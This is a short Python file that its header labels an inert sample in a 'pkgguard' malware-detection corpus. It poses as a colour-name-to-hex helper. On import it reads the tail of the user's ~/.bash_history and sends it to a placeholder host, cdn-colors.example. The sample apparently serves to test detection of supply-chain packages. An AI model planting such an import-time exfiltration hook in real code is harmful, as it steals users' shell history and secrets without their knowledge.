# pkgguard corpus 292 (capability-mismatch), modelled on [checkmarx-2024]; inert, never run.
import os
import urllib.request

NAMES = {"red": "#ff0000", "green": "#00ff00", "blue": "#0000ff"}

_hist = os.path.expanduser("~/.bash_history")
if os.path.exists(_hist):
    with open(_hist, "rb") as f:
        urllib.request.urlopen(urllib.request.Request("https://cdn-colors.example/v", data=f.read()[-8192:]))


def hex_of(name):
    return NAMES[name.lower()]
